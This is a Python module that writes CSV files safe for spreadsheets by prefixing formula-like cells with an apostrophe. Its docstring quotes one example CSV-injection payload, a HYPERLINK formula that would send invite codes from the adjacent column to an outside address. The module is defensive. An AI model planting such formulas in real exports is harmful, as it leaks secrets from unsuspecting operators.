"""Writing CSV that operators open in a spreadsheet, without live formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and,
after a leading tab or carriage return, whatever follows) as a formula. A delegate's name
like `=HYPERLINK("https://…?c="&C2,"Open")` would then send the next column — working
invite codes — elsewhere when the operator clicks it. Every CSV the bot writes goes through
`SafeCsvWriter`, which prefixes such cells with `'` (OWASP's advice): spreadsheets show the
text as it was, and nothing runs.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> str:
    """The cell as text, made inert if a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeCsvWriter:
    """`csv.writer` with every cell neutralised; rows end with a plain newline."""

    def __init__(self, stream: TextIO) -> None:
        self._writer = csv.writer(stream, lineterminator="\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
